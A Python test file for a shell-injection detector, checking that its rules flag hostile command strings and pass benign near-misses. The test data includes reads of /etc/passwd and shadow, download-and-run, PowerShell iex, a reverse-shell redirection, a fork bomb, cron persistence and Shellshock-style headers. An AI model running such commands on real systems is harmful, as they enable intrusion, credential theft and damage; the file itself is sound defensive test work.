"""Lines of shell that only attackers write, and those that people share."""

import pytest

from inference.shell_lines import RULES
from kysira.types import Place
from tests.inference.linearity import assert_linear, repeated
from tests.inference.rules_alone import flags


@pytest.mark.parametrize(
    ("technique", "text"),
    [
        ("changed_folder", "cd /;cd etc;nl passwd"),
        ("found_file", "find / -name shadow -exec cat {} ;"),
        ("encoded_word", "echo a | rev | sh"),
        ("download_and_run", "a;cd /tmp;wget http://h/x;sh x;rm -rf x"),
        ("code_execution", "system('cd /;curl h"),
        ("command_line", "nohup sh -c id"),
        ("command_line", "ls -l /etc/passwd"),
        ("command_line", "/usr/bin/perl -e 1"),
        ("powershell", "1;iex (iwr h)"),
        ("argument_injection", "-oProxyCommand=id"),
        ("sqlite_command", "1;.shell id"),
        ("here_string", ";irb<<<1"),
        ("fork_bomb", "a() { a | a & }"),
        ("reverse_shell", "sh 0<>$x/tcp/h/1"),
        ("redirection", ">/tmp/x.sh"),
        ("redirection", ">>/etc/cron.d/x"),
    ],
)
def test_technique_is_found(technique: str, text: str) -> None:
    """One example of each, and of what the rule has to look twice at."""
    assert technique in flags(RULES, text)


@pytest.mark.parametrize(
    "text",
    [
        "cd / && ls",
        "find / -name a.conf",
        "ls | sort",
        "curl h | sh",
        "wget http://h/x && sh x",
        "system('ls -l')",
        "time sh -c make",
        "ls -l /etc",
        "iex is short for Invoke-Expression",
        "-o x",
        "a;.shell { }",
        "k<<<1, 2>>>(x)",
        "a() { a | b }",
        "> /tmp is full",
        ">/tmp/x",
        "nmap -sV h",
    ],
)
def test_near_miss_passes(text: str) -> None:
    """What people write who mean no harm."""
    assert not flags(RULES, text)


@pytest.mark.parametrize(("name", "is_found"), [("code", True), ("comment", False)])
def test_redirection_counts_where_code_is_run(name: str, is_found: bool) -> None:
    """Without a command it is one where a command was asked for."""
    assert bool(flags(RULES, ">/tmp/x", Place.QUERY, name)) is is_found


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        ("nmap -sV h", True),
        ("'cat' /etc/hosts", True),
        ("time uname", True),
        ("curl/8.5.0", False),
        ("time flies", False),
        ("Wget 1.21", False),
        ("ansible-httpget", False),
    ],
)
def test_client_name_is_no_command(text: str, is_found: bool) -> None:
    """A command line is one where a browser gives its name, a program's name is not."""
    assert bool(flags(RULES, text, Place.HEADER, "user-agent")) is is_found
    assert not flags(RULES, text, Place.HEADER, "x-title")


def test_form_of_a_web_shell_is_found() -> None:
    """Where the field is called so, a command needs no separator."""
    assert flags(RULES, "cat /var/x", Place.FORM, "cmd")
    assert not flags(RULES, "cat /var/x", Place.FORM, "note")
    assert not flags(RULES, "open", Place.FORM, "cmd")


def test_function_in_a_header_is_found() -> None:
    """Old versions of Bash run what follows it, even where it ends elsewhere."""
    assert flags(RULES, "() { a", Place.HEADER, "x-a")
    assert not flags(RULES, "() { a", Place.FORM, "a")


@pytest.mark.parametrize(
    "unit", ["cd /;", "find /", "|tr a|", ";wget ", "system('", ";.sh", "a() { a |"], ids=str
)
def test_text_takes_linear_time(unit: str) -> None:
    """Checks too look at each byte a bounded number of times."""
    assert_linear(
        lambda text: flags(RULES, text.decode()), lambda n: repeated(unit.encode(), n // 10)
    )
